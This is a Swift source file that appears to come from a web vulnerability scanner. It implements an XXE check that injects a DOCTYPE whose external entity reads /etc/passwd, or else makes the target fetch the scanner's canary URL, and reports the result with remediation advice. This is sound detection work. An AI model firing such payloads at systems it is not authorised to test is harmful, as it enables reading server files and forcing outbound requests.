import Foundation
import Findings

/// XML external entities: an XML body gets a DOCTYPE declaring an entity on `/etc/passwd` and
/// one on the canary, used where the document had text. The file's content in the answer, or
/// the canary's fetch, proves the parser resolves external entities.
public struct XXECheck: ActiveCheck {
    static let rule = WebRule(
        id: "xxe", name: "XML external entity injection", severity: .high, cwe: [611],
        help: "Turn off DTDs and external entities in the XML parser (defusedxml in Python).")

    /// The rules it reports.
    public var rules: [WebRule] { [Self.rule] }

    /// It tests uploaded files too, whose content is bytes.
    public var readsBytes: Bool { true }

    /// A check.
    public init() {}

    /// Only for points holding an XML document.
    public func test(_ point: InsertionPoint, context: ActiveContext) throws -> [Finding] {
        let original = point.original.trimmingCharacters(in: .whitespacesAndNewlines)
        guard original.hasPrefix("<"), let root = Self.rootName(original) else { return [] }
        if let document = Self.inject(entity: "file:///etc/passwd", into: original, root: root),
            let (request, response) = try context.send(point, document), PathTraversalCheck.readsFile(response.text)
        {
            return [
                Self.rule.finding(
                    at: point, message: "XML external entities are resolved in '\(point.name)': /etc/passwd came back",
                    evidence: Evidence.of(request, response, around: "root:"), web: WebFacts(technique: .file))
            ]
        }
        guard let canary = context.canary else { return [] }
        let token = context.markers.marker()
        let pending = Self.rule.finding(
            at: point, message: "XML external entities are resolved in '\(point.name)': the parser fetched the scan's URL",
            evidence: "An entity SYSTEM \"\(canary.base)/\(token)\" was fetched by the target.",
            web: WebFacts(technique: .outOfBand))
        let url = canary.url(token: token, proving: pending)
        guard let document = Self.inject(entity: url, into: original, root: root),
            let (request, response) = try context.send(point, document),
            response.text.contains(CanaryRegistry.echo(of: token))
        else { return [] }
        var finding = pending
        finding.evidence = Evidence.bounded(Evidence.of(request, response, around: CanaryRegistry.echo(of: token)))
        return [finding]
    }

    /// The root element's name and the range of the first non-blank text between tags.
    static func rootAndText(_ xml: String) -> (String, Range<String.Index>)? {
        var search = xml.startIndex
        var root: String?
        while let open = xml[search...].firstIndex(of: "<") {
            let next = xml.index(after: open)
            guard next < xml.endIndex else { return nil }
            if root == nil, xml[next] != "?", xml[next] != "!" {
                root = String(xml[next...].prefix { !$0.isWhitespace && $0 != ">" && $0 != "/" })
            }
            guard let close = xml[open...].firstIndex(of: ">") else { return nil }
            let textStart = xml.index(after: close)
            let textEnd = xml[textStart...].firstIndex(of: "<") ?? xml.endIndex
            if root != nil, !xml[textStart..<textEnd].trimmingCharacters(in: .whitespacesAndNewlines).isEmpty {
                return (root ?? "", textStart..<textEnd)
            }
            search = textStart
        }
        return nil
    }

    /// The root element's name: the first tag that is not a declaration, comment or DOCTYPE.
    static func rootName(_ xml: String) -> String? {
        var search = xml.startIndex
        while let open = xml[search...].firstIndex(of: "<") {
            let next = xml.index(after: open)
            guard next < xml.endIndex else { return nil }
            if xml[next] != "?", xml[next] != "!" {
                let name = String(xml[next...].prefix { !$0.isWhitespace && $0 != ">" && $0 != "/" })
                return name.isEmpty ? nil : name
            }
            guard let close = xml[open...].firstIndex(of: ">") else { return nil }
            search = xml.index(after: close)
        }
        return nil
    }

    /// `xml` with a DOCTYPE declaring `&sentinel;` as `system`, used where the document has its
    /// first text or, in a document without text (`<ping/>`, attributes only), as the root's
    /// content: a parser that resolves it fetches it whether or not the answer shows it.
    static func inject(entity system: String, into xml: String, root: String) -> String? {
        var withoutDeclaration = xml
        var declaration = ""
        if xml.hasPrefix("<?xml"), let end = xml.range(of: "?>") {
            declaration = String(xml[..<end.upperBound])
            withoutDeclaration = String(xml[end.upperBound...])
        }
        var body = withoutDeclaration
        if let (_, text) = rootAndText(withoutDeclaration) {
            body.replaceSubrange(text, with: "&sentinel;")
        } else {
            guard let start = body.range(of: "<" + root), let close = body[start.upperBound...].firstIndex(of: ">") else {
                return nil
            }
            let selfClosing = close > start.upperBound && body[body.index(before: close)] == "/"
            if selfClosing {
                body.replaceSubrange(body.index(before: close)...close, with: ">&sentinel;</\(root)>")
            } else {
                body.insert(contentsOf: "&sentinel;", at: body.index(after: close))
            }
        }
        return declaration + "<!DOCTYPE \(root) [<!ENTITY sentinel SYSTEM \"\(system)\">]>" + body
    }
}
